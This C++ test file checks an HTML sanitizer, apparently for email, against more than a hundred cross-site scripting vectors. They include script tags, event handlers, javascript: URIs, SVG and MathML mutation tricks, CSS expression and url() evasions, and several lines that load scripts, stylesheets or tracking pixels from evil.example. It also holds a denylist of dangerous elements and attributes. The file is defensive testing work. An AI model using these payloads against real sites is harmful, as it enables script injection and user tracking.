#include "formats/html/sanitize.hpp"

#include <doctest/doctest.h>

#include <ctime>

#include <string>
#include <vector>

#include "formats/html/tokenizer.hpp"

using namespace aproape::html;

namespace {

// Reads what the sanitizer wrote as an inspector with its own, stricter eyes: every tag is of a known
// harmless element, every attribute is known, no address but the allowed schemes, no loading of anything from
// outside.
std::string complaint(const std::string& safe) {
  static const std::vector<std::string_view> never = {
      "script", "iframe",   "object", "embed",  "svg",    "math",   "form",     "input",
      "style",  "link",     "meta",   "base",   "video",  "audio",  "template", "textarea",
      "title",  "noscript", "frame",  "applet", "button", "select", "body",     "html"};
  Tokenizer tokens(safe);
  Token token;
  while (tokens.next(token)) {
    if (token.kind == Token::Kind::raw) return "raw text";
    if (token.kind == Token::Kind::text) {
      if (token.text.find('<') != std::string_view::npos) return "bare < in text";
      continue;
    }
    if (token.element == nullptr) return "unknown element";
    for (const std::string_view name : never) {
      if (token.element->name == name) return "element " + std::string(name);
    }
    for (const Attribute& attribute : token.attributes) {
      const std::string name(attribute.name);
      const std::string value(attribute.value);
      if (name.starts_with("on") || name == "id" || name == "name" || name == "class" ||
          name == "background" || name == "srcset" || name == "srcdoc") {
        return "attribute " + name;
      }
      if (name == "src" && !value.starts_with("cid:")) return "src " + value;
      const bool link = value.starts_with("http://") || value.starts_with("https://") ||
                        value.starts_with("mailto:") || value.starts_with("tel:") ||
                        value.starts_with("HTTP");
      if ((name == "href" || name == "data-remote-src") && !link) return name + " " + value;
      if (name == "style") {
        for (const std::string_view word :
             {"url", "expression", "behavior", "import", "position", "binding", "\\", "<"}) {
          if (value.find(word) != std::string::npos) return "style " + value;
        }
      }
    }
  }
  return {};
}

const std::vector<std::string> kVectors = {
    "<script>fire(1)</script>",
    "<ScRiPt>fire(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/x>fire(1)</script/x>",
    "<scr<script>ipt>fire(1)</scr</script>ipt>",
    "<<script>fire(1)//<</script>",
    "<script\t>fire(1)</script\n>",
    "<script>fire(1)",
    "<script><!--<script>fire(1)</script>-->fire(2)</script>",
    "<img src=x onerror=fire(1)>",
    "<img src=x oNeRrOr=fire(1)>",
    "<img/src=x/onerror=fire(1)>",
    "<img src=`x`onerror=fire(1)>",
    "<img src='x'onerror='fire(1)'>",
    "<img \"\"\"><script>fire(1)</script>\">",
    "<img src=\"x\" alt=\"\"\"onerror=fire(1)//\">",
    "<img src=javascript:fire(1)>",
    "<img src=\"jav\tascript:fire(1)\">",
    "<img src=\"jav&#x0A;ascript:fire(1)\">",
    "<a href=javascript:fire(1)>x</a>",
    "<a href=' javascript:fire(1)'>x</a>",
    "<a href='\x01javascript:fire(1)'>x</a>",
    "<a href='JaVaScRiPt:fire(1)'>x</a>",
    "<a href='&#106;&#97;vascript&colon;fire(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&#58fire(1)'>x</a>",
    "<a href='java&Tab;script:fire(1)'>x</a>",
    "<a href='java&NewLine;script:fire(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>fire(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='feed:javascript:fire(1)'>x</a>",
    "<a href='view-source:javascript:fire(1)'>x</a>",
    "<a href=\"x\" href=\"javascript:fire(1)\">x</a>",
    "<a xlink:href='javascript:fire(1)'>x</a>",
    "<svg onload=fire(1)>",
    "<svg><script>fire(1)</script></svg>",
    "<svg><script xlink:href=data:,fire(1)></script></svg>",
    "<svg><a xlink:href='javascript:fire(1)'><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:fire(1) /><a id=x>y</a></svg>",
    "<svg><style><img src=x onerror=fire(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=fire(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=fire(1)&gt;\">",
    "<math href='javascript:fire(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=fire(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=fire(1)>\">",
    "<title><p title=\"</title><img src=x onerror=fire(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=fire(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=fire(1)>\">",
    "<template><script>fire(1)</script></template>",
    "<iframe src=javascript:fire(1)></iframe>",
    "<iframe srcdoc='<script>fire(1)</script>'></iframe>",
    "<iframe><img src=x onerror=fire(1)></iframe>",
    "<object data=javascript:fire(1)></object>",
    "<embed src=javascript:fire(1)>",
    "<applet code=x></applet>",
    "<base href='javascript:fire(1)//'><a href='x'>y</a>",
    "<meta http-equiv=refresh content='0;url=javascript:fire(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/t)}</style>",
    "<form action='javascript:fire(1)'><input type=submit></form>",
    "<button formaction=javascript:fire(1)>x</button>",
    "<isindex type=image src=1 onerror=fire(1)>",
    "<input autofocus onfocus=fire(1)>",
    "<details open ontoggle=fire(1)>x</details>",
    "<video><source onerror=fire(1)></video>",
    "<video poster=https://evil.example/t src=x></video>",
    "<body onload=fire(1)>",
    "<body background=https://evil.example/t>",
    "<table background='javascript:fire(1)'><td background='https://evil.example/t'>x</td></table>",
    "<div style='background:url(https://evil.example/t)'>x</div>",
    "<div style='background:u\\72l(https://evil.example/t)'>x</div>",
    "<div style='width:expression(fire(1))'>x</div>",
    "<div style='width:ex/**/pression(fire(1))'>x</div>",
    "<div style='behavior:url(#default#time2)'>x</div>",
    "<div style='-moz-binding:url(https://evil.example/x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>overlay</div>",
    "<div style='color:red;}</style><script>fire(1)</script>'>x</div>",
    "<div style=\"font-family:'a\\22 ;x:y'\">x</div>",
    "<div style='margin:-1000px'>x</div>",
    "<img src='https://evil.example/pixel.gif' width=1 height=1>",
    "<img srcset='https://evil.example/t 2x'>",
    "<img src='//evil.example/t'>",
    "<img src='cid:a\" onerror=\"fire(1)'>",
    "<a href='https://a.example/\" onmouseover=\"fire(1)'>x</a>",
    "<p title='\"><script>fire(1)</script>'>x</p>",
    "<p title=`onmouseover=fire(1)`>x</p>",
    "<!--[if mso]><script>fire(1)</script><![endif]-->",
    "<!--><script>fire(1)</script>-->",
    "<![CDATA[<script>fire(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>fire(1)</x:script>",
    "<a name=location id=document>x</a>",
    "<p id=x name=y class='modal open'>z</p>",
    "<plaintext><script>fire(1)</script>",
    "<select><style></select><img src=x onerror=fire(1)></style>",
    "<table><svg><p><style><img src=x onerror=fire(1)>",
    "&lt;script&gt;fire(1)&lt;/script&gt;",
    "<b x=\"<script>\" y='>'>&#60;script&#62;fire(1)</b>",
    "<img src=x:x onerror\n=\nfire(1)>",
    "<p\x0Conmouseover=fire(1)>x</p>",
    "<marquee onstart=fire(1)>x</marquee>",
    "<p>a<svg><p>b<table><tr><td><form><tr><td>c",
    "<frameset onload=fire(1)><frame src=javascript:fire(1)></frameset>",
    "+ADw-script+AD4-fire(1)+ADw-/script+AD4-",
    "\xE2\x80\xA9<script\xE2\x80\xA9>fire(1)</script>",
};

}  // namespace

TEST_CASE("no vector leaves anything active or fetching") {
  REQUIRE(kVectors.size() >= 60);
  for (const std::string& vector : kVectors) {
    CAPTURE(vector);
    const Sanitized once = sanitize(vector);
    CAPTURE(once.html);
    CHECK(complaint(once.html) == "");
    CHECK(sanitize(once.html).html == once.html);  // nothing new appears at a second reading
    // In the middle of other markup and within an attribute that was left open.
    CHECK(complaint(sanitize("<p><b>a" + vector + "<i>c</b>").html) == "");
    CHECK(complaint(sanitize("<a href=\"" + vector).html) == "");
    CHECK(complaint(sanitize("<table><td title='" + vector + "'>x").html) == "");
  }
}

TEST_CASE("every cut of every vector is as harmless as the whole") {
  for (const std::string& vector : kVectors) {
    for (std::size_t end = 0; end < vector.size(); ++end) {
      const std::string safe = sanitize(vector.substr(0, end) + "<b>x</b>").html;
      CAPTURE(vector.substr(0, end));
      CHECK(complaint(safe) == "");
    }
  }
}

TEST_CASE("a normal letter keeps its looks") {
  const auto safe = sanitize(
      "<html><body><p style=\"margin:0 0 10px;color:#333;font-family:'Segoe UI',Arial\">Bună <b>ziua</b> "
      "&amp; "
      "mulţumesc</p><table border=1 cellpadding=\"4\"><tr><td colspan=2 align=center>x<td>y</table>"
      "<ul><li>a<li>b</ul><a href='https://example.org/?a=1&amp;b=2' title=t>l</a><img src='cid:p1@x' "
      "alt='Poză'></body>");
  CHECK(safe.html ==
        "<p style=\"margin:0 0 10px;color:#333;font-family:&#39;segoe ui&#39;,arial\">Bună <b>ziua</b> &amp; "
        "mulţumesc</p><table border=\"1\" cellpadding=\"4\"><tr><td colspan=\"2\" "
        "align=\"center\">x</td><td>y</td>"
        "</tr></table><ul><li>a</li><li>b</li></ul><a title=\"t\" href=\"https://example.org/?a=1&amp;b=2\" "
        "target=\"_blank\" rel=\"noopener noreferrer\">l</a><img alt=\"Poză\" src=\"cid:p1@x\">");
  CHECK_FALSE(safe.remote_content);
  CHECK_FALSE(safe.script_removed);
  CHECK_FALSE(safe.hidden_text);
  CHECK_FALSE(safe.truncated);
}

TEST_CASE("a remote picture is marked, not loaded") {
  const auto safe = sanitize("<img src=\"https://example.org/a b.png?x=1&y=2\" width=10>");
  CHECK(safe.html == "<img width=\"10\" data-remote-src=\"https://example.org/a%20b.png?x=1&amp;y=2\">");
  CHECK(safe.remote_content);
  CHECK(sanitize("<td background='https://example.org/b'>x").remote_content);
  CHECK(sanitize("<p style='background:url( https://example.org/b )'>x").remote_content);
  CHECK(sanitize("<link rel=stylesheet href=https://example.org/c>").remote_content);
  CHECK_FALSE(sanitize("<a href='https://example.org/'>x</a>").remote_content);
}

TEST_CASE("what was taken away is told") {
  CHECK(sanitize("<script>x</script>").script_removed);
  CHECK(sanitize("<p onclick=x>y").script_removed);
  CHECK(sanitize("<a href=' java\nscript:x'>y").script_removed);
  CHECK(sanitize("<iframe src=x>").script_removed);
  CHECK(sanitize("<div style='display:none'>x</div>").hidden_text);
  CHECK_FALSE(sanitize("<div style='display:none'> </div>").hidden_text);
}

TEST_CASE("nesting and size of the output are capped, in linear time") {
  std::string deep;
  for (int i = 0; i < 100'000; ++i) deep += "<div>";
  // The thread's own clock: a busy machine changes nothing.
  const auto milliseconds = [] {
    timespec time{};
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &time);
    return static_cast<long long>(time.tv_sec) * 1000 + time.tv_nsec / 1'000'000;
  };
  const long long begin = milliseconds();
  const auto safe = sanitize(deep + "end");
  CHECK(milliseconds() - begin < 500);
  CHECK(safe.truncated);
  CHECK(safe.html.size() == 200 * 11 + 3);
  CHECK(safe.html.find("end") != std::string::npos);
  const auto cut = sanitize(std::string(5000, '"'), 1000);
  CHECK(cut.truncated);
}

TEST_CASE("escape leaves no way out of a text or an attribute") {
  CHECK(escape("<a b=\"c\" d='e'>&`\r\x01") == "&lt;a b=&quot;c&quot; d=&#39;e&#39;&gt;&amp;&#96;");
}
